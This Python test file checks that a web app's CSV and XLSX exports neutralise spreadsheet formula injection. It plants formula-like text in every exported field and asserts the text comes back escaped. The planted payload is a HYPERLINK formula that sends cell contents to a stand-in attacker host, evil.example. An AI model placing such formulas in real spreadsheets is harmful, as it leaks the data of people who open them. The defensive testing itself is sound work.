"""Every CSV and XLSX file we write is safe to open (issue 12, point 3).

Text shaped like a formula is planted in every text field that reaches an export; each export is
downloaded and parsed, and no cell may start like a formula (unescaped) nor be an XLSX formula.
The list of exports is checked against the app's routes, so a new export must be added here.
"""

from __future__ import annotations

import csv
import io
import re
import zipfile
from datetime import timedelta

import pytest
from openpyxl import load_workbook

from qa_app.domain.months import month_of
from qa_app.domain.spreadsheet_cells import starts_like_a_formula
from qa_app.extensions import db
from qa_app.services import plans, registry, standards
from qa_app.services.actors import Actor
from qa_app.services.calendar import utcnow

#: export endpoint → the addresses to fetch ({plan} and {month} are filled in) and who fetches them
EXPORTS = {
    "staff.service_export": (["/services/export.csv", "/services/export.xlsx"], "officer"),
    "staff.plan_xlsx": (["/plans/{plan}/plan.xlsx"], "officer"),
    "portal.plan_xlsx": (["/portal/plans/{plan}/plan.xlsx"], "provider_user"),
    # the QuAD report's tables (a zip of CSV files, and a workbook), for the month under way:
    # the planted service is amber (its CQC rating moved to Requires improvement this month)
    "staff.quad_report_csv": (["/reports/quad/{month}.csv"], "officer"),
    "staff.quad_report_xlsx": (["/reports/quad/{month}.xlsx"], "officer"),
    "api.quad_report_csv": (["/api/v1/reports/quad/{month}.csv"], "officer"),
    "api.quad_report_xlsx": (["/api/v1/reports/quad/{month}.xlsx"], "officer"),
}

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"-?\d+(\.\d+)?")


def _payload(n: int, field: str) -> str:
    """A formula-like text, one per field (each trigger in turn), that names its field."""
    return f'{TRIGGERS[n % len(TRIGGERS)]}HYPERLINK("http://evil.example/?x="&A1,"{field}")'


def _is_export(rule) -> bool:
    name = rule.endpoint.rsplit(".", 1)[-1]
    path = rule.rule.lower()
    return (
        name.endswith(("export", "xlsx", "csv"))
        or "export" in path
        or ".csv" in path
        or ".xlsx" in path
    )


def test_every_export_route_is_in_the_list(app):
    exports = {rule.endpoint for rule in app.url_map.iter_rules() if _is_export(rule)}
    assert exports == set(EXPORTS), "list each CSV/XLSX export in EXPORTS and plant its fields"


@pytest.fixture
def planted(make, app, tmp_path, monkeypatch):
    """A service, its provider, officer and improvement plan with a formula in every text
    field an export shows. Returns the planted texts by field and the people."""
    monkeypatch.setitem(app.config, "QA_EVIDENCE_DIR", str(tmp_path))
    fields = iter(range(100))
    texts: dict[str, str] = {}

    def plant(field: str) -> str:
        texts[field] = _payload(next(fields), field)
        return texts[field]

    monkeypatch.setitem(app.config, "QA_COUNCIL_NAME", plant("council"))
    standards.load_directory(Actor.system("cli"))
    officer = make.user("officer", name=plant("officer name"))
    provider = make.provider(name=plant("provider name"))
    provider_user = make.user("provider", provider)
    service = make.service(provider, contract_officer_id=officer.id)
    registry.update_service(
        Actor(officer, "web"), officer, service.id, {"cqc_rating": "Requires improvement"}, None
    )
    # written straight to the rows: the exports must be safe whatever got into the database
    service.name = plant("service name")
    service.cqc_location_id = plant("CQC location ID")[:20]  # the column holds 20
    texts["CQC location ID"] = service.cqc_location_id
    service.cluster = plant("cluster")
    service.postcode = "-NE61"
    texts["postcode"] = service.postcode
    service.beds = -3  # a negative number stays a number
    plan = plans.plan_for_service(officer, service.id)
    plan.opened_because = plant("why there is a plan")
    plan.left_below_good_by = plant("below good")
    issue = plans.add_issue(Actor(officer, "web"), officer, plan.id, plant("issue title"), "")
    action = plans.add_action(
        Actor(provider_user, "web"),
        provider_user,
        issue.id,
        {
            "description": "Audit",
            "owner": "Jo",
            "target_date": plans.london_today() + timedelta(days=30),
            "success_measure": "Done",
        },
    )
    plans.upload_evidence(
        Actor(provider_user, "web"), provider_user, action.id, "rota.png", b"\x89PNG\r\n\x1a\n"
    )
    action.description = plant("action description")
    action.owner = plant("owner")[:200]
    action.success_measure = plant("success measure")
    action.progress_evidence = plant("progress evidence")
    action.impact_evidence = plant("impact evidence")
    action.completion_note = plant("completion note")
    action.verified_at, action.verified_by_label = utcnow(), plant("verified by")
    plans.view(plan).files[action.id][0].filename = plant("evidence file name")
    db.session.commit()
    return {
        "texts": texts,
        "plan": plan,
        "people": {"officer": officer, "provider_user": provider_user},
    }


def _address(template: str, planted) -> str:
    return template.format(plan=planted["plan"].id, month=month_of(utcnow()))


def _cells(response, url: str) -> list:
    if response.mimetype == "application/zip":  # one CSV file per table
        with zipfile.ZipFile(io.BytesIO(response.data)) as archive:
            texts = [archive.read(name).decode("utf-8-sig") for name in archive.namelist()]
        assert texts, url
        return [
            value
            for text in texts
            for row in csv.reader(io.StringIO(text, newline=""))
            for value in row
        ]
    if url.endswith(".csv"):
        assert response.mimetype == "text/csv"
        text = response.get_data(as_text=True).lstrip("\ufeff")
        return [value for row in csv.reader(io.StringIO(text, newline="")) for value in row]
    book = load_workbook(io.BytesIO(response.data))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    formulas = [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert formulas == [], f"{url}: formula cells {formulas}"
    return [cell.value for cell in cells]


def test_no_export_holds_a_live_formula(app, make, planted):
    texts = planted["texts"]
    problems = []
    for endpoint, (urls, who) in EXPORTS.items():
        client = app.test_client()
        make.sign_in(client, planted["people"][who])
        for template in urls:
            url = _address(template, planted)
            response = client.get(url)
            assert response.status_code == 200, url
            values = _cells(response, url)
            strings = [v for v in values if isinstance(v, str)]
            for value in strings:
                if starts_like_a_formula(value) and not NUMBER.fullmatch(value):
                    problems.append(f"{endpoint} {url}: {value!r}")
            # each export shows planted fields, escaped where they lead the cell
            assert any("'" + t in strings for t in texts.values()), url
            if url.endswith(".xlsx") and "services" in url:
                assert -3 in values, "the negative number of beds stays a number"
            if url.endswith(".csv") and "services" in url:
                assert "-3" in values
    assert problems == []


def test_each_planted_field_reaches_an_export(app, make, planted):
    """The fixture plants nothing that no export shows (else the test above proves less)."""
    seen: set[str] = set()
    for urls, who in EXPORTS.values():
        client = app.test_client()
        make.sign_in(client, planted["people"][who])
        for template in urls:
            url = _address(template, planted)
            seen |= {v for v in _cells(client.get(url), url) if isinstance(v, str)}
    missing = {
        field
        for field, text in planted["texts"].items()
        # (XML reads a carriage return back as a line feed)
        if not any(text in value or text.replace("\r", "\n") in value for value in seen)
    }
    assert missing == set()
